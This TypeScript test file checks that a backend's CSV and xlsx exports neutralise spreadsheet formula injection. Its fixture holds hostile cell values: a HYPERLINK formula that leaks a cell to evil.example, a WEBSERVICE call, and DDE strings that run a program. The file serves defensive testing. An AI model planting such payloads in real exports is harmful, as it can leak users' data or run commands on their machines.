import { ServiceAuthTags } from '@coldchain/contract';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../test/build-app';
import { buildCompany, buildDevice, login } from '../../test/factories';
import { alarmRecords } from '../alarms/alarms.table';
import { buildNotification } from '../billing/credits-test-support';
import { grantCredit, reserveCredit } from '../delivery/credits.service';
import { devices, sensors } from '../devices/devices.table';
import { equipment, equipmentRecords, equipmentTypes } from '../equipment/equipment.table';
import { readings } from '../telemetry/readings.table';
import { users } from '../users/users.table';
import { recordAudit } from './audit.service';

/*
 * Formula injection across every export: hostile names, remarks and accounts must reach every
 * CSV and xlsx file as text a spreadsheet shows, never as a formula it runs (export-file.ts).
 */

const HOSTILE = {
  device: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  sensor: "+cmd|' /C calc'!A0",
  unit: "-2+3+cmd|' /C calc'!A0",
  user: "@SUM(1+1)*cmd|' /C calc'!A0",
  cause: '\t=1+1',
  action: '\r=2+2',
  reason: '=WEBSERVICE("http://evil.example/")',
};

/** A cell a spreadsheet would run: starts with = + - @ tab or CR, and is not a plain number. */
const runsAsFormula = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

/** Minimal RFC 4180 reader: enough to read back what the exports wrote. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      cells.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') continue;
    else cell += c;
  }
  return cells;
}

async function xlsxCells(bytes: Buffer): Promise<ExcelJS.CellValue[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: ExcelJS.CellValue[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push(cell.value);
      });
    });
  }
  return cells;
}

describe('every export writes hostile text as text', () => {
  const ctx = useTestApp({ loginRateLimitPerMinute: 10_000 });
  const now = Date.now();
  const period = { startTime: now - 86_400_000, endTime: now + 3_600_000 };

  async function fixture() {
    const company = await buildCompany(ctx.app.db, { services: [...ServiceAuthTags] });
    await ctx.app.db.update(users).set({ name: HOSTILE.user }).where(eq(users.id, company.admin.id));
    const token = await login(ctx.app, company.admin.account);
    const device = await buildDevice(ctx.app.db, company.id, { name: HOSTILE.device });
    const sensor = device.sensors[0]!;
    await ctx.app.db
      .update(sensors)
      .set({ name: HOSTILE.sensor, unit: HOSTILE.unit })
      .where(eq(sensors.id, sensor.id));
    await ctx.app.db
      .update(devices)
      .set({ name: HOSTILE.device })
      .where(eq(devices.id, Number(device.id)));
    // A negative reading proves numbers stay numbers, not neutralised text.
    await ctx.app.db.insert(readings).values([
      { sensorId: sensor.id, ts: new Date(now - 3_600_000), value: -18.5 },
      { sensorId: sensor.id, ts: new Date(now - 1_800_000), value: 4.5 },
    ]);
    await ctx.app.db.insert(alarmRecords).values({
      companyId: company.id,
      deviceId: Number(device.id),
      sensorId: sensor.id,
      alarmType: 'overLimit',
      level: 1,
      alarmTime: new Date(now - 3_600_000),
      excursionStart: new Date(now - 3_600_000),
      dedupeKey: `cells:${device.id}`,
      content: { en: HOSTILE.reason, cn: HOSTILE.reason },
      resolveState: 3,
      resolverId: company.admin.id,
      resolveTime: new Date(now - 1_800_000),
      resolveType: 'handled',
      cause: HOSTILE.cause,
      action: HOSTILE.action,
    });
    await ctx.app.db.transaction((tx) =>
      recordAudit(
        tx,
        { companyId: company.id, userId: company.admin.id, ip: '127.0.0.1' },
        { action: 'device.edit', targetType: 'device', targetId: device.id, reason: HOSTILE.reason },
      ),
    );
    const [type] = await ctx.app.db
      .insert(equipmentTypes)
      .values({ companyId: company.id, name: HOSTILE.sensor, code: '77' })
      .returning();
    const [item] = await ctx.app.db
      .insert(equipment)
      .values({
        companyId: company.id,
        typeId: type!.id,
        serial: '770001',
        serialSuffix: '0001',
        name: HOSTILE.device,
        remarks: HOSTILE.reason,
      })
      .returning();
    await ctx.app.db.insert(equipmentRecords).values({
      companyId: company.id,
      equipmentId: item!.id,
      kind: 'repair',
      time: new Date(now - 3_600_000),
      details: { unit: HOSTILE.unit, person: HOSTILE.user, cause: HOSTILE.cause, repaired: false },
      createdBy: company.admin.id,
    });
    // The credit ledger (modules/billing): a grant's reason and the device a message paid for.
    await grantCredit(ctx.app.db, company.id, 10, HOSTILE.reason);
    const paid = await buildNotification(ctx.app.db, company.id, Number(device.id), company.admin.id, 'sms');
    await reserveCredit(ctx.app.db, company.id, paid.notificationId, 'sms', 1);
    return { company, token, device, equipmentId: String(item!.id) };
  }

  /**
   * Every call that answers a file, with a body that selects the hostile rows, and the hostile
   * texts its file must carry (neutralised). A new export call fails the route-table check below
   * until it is added here.
   */
  const EXPORTS: Record<
    string,
    { body: (ids: { deviceId: string; equipmentId: string }) => object; carries: string[] }
  > = {
    '/api/device/exportData': {
      body: ({ deviceId }) => ({ deviceIds: [deviceId], ...period }),
      carries: [HOSTILE.device, HOSTILE.sensor, HOSTILE.unit],
    },
    '/api/alarm/exportAlarms': {
      body: () => period,
      carries: [HOSTILE.device, HOSTILE.sensor, HOSTILE.user, HOSTILE.cause, HOSTILE.action, HOSTILE.reason],
    },
    '/api/audit/exportOperationLog': { body: () => period, carries: [HOSTILE.user, HOSTILE.reason] },
    '/api/userLoginLog/exportUserLog': { body: () => period, carries: [HOSTILE.user] },
    '/api/userLoginLog/auditExportUserLog': { body: () => period, carries: [HOSTILE.user] },
    '/api/equipment/exportEquipment': {
      body: () => ({ timeZone: 'UTC' }),
      carries: [HOSTILE.device, HOSTILE.sensor],
    },
    '/api/equipment/exportRecords': {
      // A record's own fields share one "details" cell that starts with their labels.
      body: ({ equipmentId }) => ({ equipmentId, timeZone: 'UTC' }),
      carries: [HOSTILE.user],
    },
    '/api/statistics/exportStatistics': {
      body: () => ({ ...period, chart: 'availability', timeZone: 'UTC' }),
      carries: [HOSTILE.device],
    },
    '/api/credit/exportLedger': { body: () => ({}), carries: [HOSTILE.device, HOSTILE.reason] },
  };

  /** Calls that hand back a file made earlier and kept: a backup run's (written by the exports above), a report's PDF. */
  const STORED_FILES = new Set([
    // The invoice PDF the supplier uploaded (modules/billing invoices), answered as stored.
    '/api/invoice/downloadInvoice',
    '/api/report/downloadRun',
    '/api/dataCenter/downloadFile',
    '/api/operationReport/downloadRun',
  ]);

  /** Calls whose names speak of exports but that answer an envelope, not a file. */
  // The export flag, and the figure a waiting export dialog polls: neither answers a file.
  const NOT_FILES = new Set(['/api/personnel/setExportExcel', '/api/export/progress']);

  it('knows every call of the route table that answers a file', () => {
    const fileCalls = [...ctx.app.routePermissions.values()]
      .map((route) => route.url)
      .filter((url) => /export|download/i.test(url) && !NOT_FILES.has(url) && !STORED_FILES.has(url));
    expect(fileCalls.sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it('neutralises every formula-like cell of every CSV and xlsx file, and keeps numbers numbers', async () => {
    const { company, token, device, equipmentId } = await fixture();
    for (const [url, spec] of Object.entries(EXPORTS)) {
      for (const format of ['csv', 'xlsx'] as const) {
        const response = await ctx.app.inject({
          method: 'POST',
          url,
          headers: {
            'content-type': 'application/json',
            accessToken: token,
            companyId: String(company.id),
          },
          payload: JSON.stringify({ ...spec.body({ deviceId: device.id, equipmentId }), format }),
        });
        const where = `${url} ${format}`;
        expect(response.headers['content-disposition'], `${where}: ${response.body}`).toMatch(/^attachment;/);
        const cells =
          format === 'csv'
            ? csvCells(response.body.replace(/^\uFEFF/, ''))
            : await xlsxCells(response.rawPayload);
        const texts = cells.filter((c): c is string => typeof c === 'string');
        expect(texts.filter(runsAsFormula), where).toEqual([]);
        // XML has no bare CR: an xlsx cell reads it back as a line feed.
        const lf = (text: string) => text.replaceAll('\r', '\n');
        for (const hostile of spec.carries) {
          expect(
            texts.some((t) => lf(t).includes(lf(`'${hostile}`))),
            `${where} carries ${JSON.stringify(hostile)}`,
          ).toBe(true);
        }
        if (url === '/api/device/exportData') {
          if (format === 'xlsx') expect(cells).toContain(-18.5);
          else expect(texts).toContain('-18.5');
        }
      }
    }
  });
});
